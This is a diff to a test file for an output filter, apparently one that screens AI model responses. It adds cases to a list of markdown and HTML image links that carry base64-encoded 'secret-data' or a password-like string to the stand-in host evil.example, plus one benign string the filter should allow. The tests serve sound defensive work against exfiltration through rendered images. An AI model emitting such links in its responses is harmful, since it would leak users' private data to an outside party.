@@ -150,6 +150,7 @@ describe("an output", () => {
     "![x](https://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
     '![x](//evil.example/a?q=hunter22hunter "title")',
     "![](https://evil.example/c2VjcmV0LWRhdGEtdGhhdC1pcy1sb25nLTEyMw/p.png)",
+    "[x]: https://evil.example/?d=c2VjcmV0LWRhdGE",
     '<img alt="" src="https://evil.example/a?secret=hunter22hunter">',
   ];
   for (const image of IMAGES) {
@@ -173,6 +174,7 @@ describe("an output", () => {
     "![x](chart.png)",
     "[docs](https://example.com/a)",
     "a < b",
+    "<object or f(https://example.com/?a=hunter22hunter) >",
   ]) {
     it(`keeps ${given}`, () => {
       expect(checkOutput(given, EVERY_OUTPUT_RULE)).toEqual({ action: "allow", text: given, findings: [] });
